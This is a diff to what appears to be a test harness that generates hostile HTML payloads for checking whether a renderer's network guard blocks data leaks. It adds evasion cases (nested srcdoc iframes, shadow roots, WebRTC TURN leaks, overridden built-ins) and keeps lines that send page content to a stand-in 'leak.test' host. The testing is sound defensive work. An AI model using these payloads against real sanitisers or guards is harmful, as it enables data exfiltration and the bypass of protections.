@@ -6,7 +6,13 @@ export interface HostileUrls {
   http: string;
   stun: string;
   turn: string;
+  /** An https URL whose host name (under `leak.test`) carries `label`. */
+  named: (label: string) => string;
 }
+
+/** A value as a JavaScript literal safe inside an inline script. */
+const literal = (value: string) => JSON.stringify(value).replace(/</g, '\\u003c');
+const attribute = (value: string) => value.replace(/&/g, '&amp;').replace(/"/g, '&quot;');
 
 const pick = <T>(random: () => number, items: readonly T[]): T =>
   items[Math.floor(random() * items.length)]!;
@@ -26,7 +32,20 @@ export function seeded(seed: number): () => number {
 function leaks(urls: HostileUrls, id: string): string[] {
   const u = `${urls.http}/${id}`;
   const rtc = `try { const pc = new RTCPeerConnection({ iceServers: [{ urls: '${urls.stun}' }, { urls: '${urls.turn}', username: '${id}', credential: 'x' }] }); pc.createDataChannel('x'); pc.createOffer().then((o) => pc.setLocalDescription(o)); } catch (e) {}`;
+  // TURN over TLS to a name the raw TCP sink reads: a guard bypass shows up as a server name.
+  const turnNamed = `turns:${new URL(urls.named(`${id}-rtc`)).host}?transport=tcp`;
+  const rtcNamed = `try { const pc = new RTCPeerConnection({ iceServers: [{ urls: '${urls.stun}' }, { urls: '${turnNamed}', username: '${id}', credential: 'x' }] }); pc.createDataChannel('x'); pc.createOffer().then((o) => pc.setLocalDescription(o)); } catch (e) {}`;
+  const nested = `<script>${rtcNamed}</script>`;
+  const declared = (mode: string) =>
+    `<div><template shadowrootmode="${mode}"><p>root</p><iframe srcdoc="${attribute(nested)}"></iframe></template></div>`;
   return [
+    // Nested frames two deep, declarative shadow roots (markup and setHTMLUnsafe), and built-ins
+    // the guard relies on replaced before a nested frame is made.
+    `<script>(() => { const f = document.createElement('iframe'); f.srcdoc = '<iframe srcdoc="' + ${literal(attribute(nested))} + '"></iframe>'; document.documentElement.append(f); })();</script>`,
+    declared('closed'),
+    declared('open'),
+    `<script>(() => { const d = document.createElement('div'); document.documentElement.append(d); d.setHTMLUnsafe(${literal(declared('closed'))}); })();</script>`,
+    `<script>String.prototype.includes = () => true; String.prototype.startsWith = () => true; Element.prototype.setAttribute = function () {}; Element.prototype.getAttribute = () => null; RegExp.prototype.exec = () => null;</script><iframe srcdoc="${attribute(nested)}"></iframe>`,
     `<script>fetch('${u}/fetch').catch(() => {});</script>`,
     `<script>new Image().src = '${u}/image';</script>`,
     `<script>navigator.sendBeacon('${u}/beacon', document.documentElement.outerHTML);</script>`,
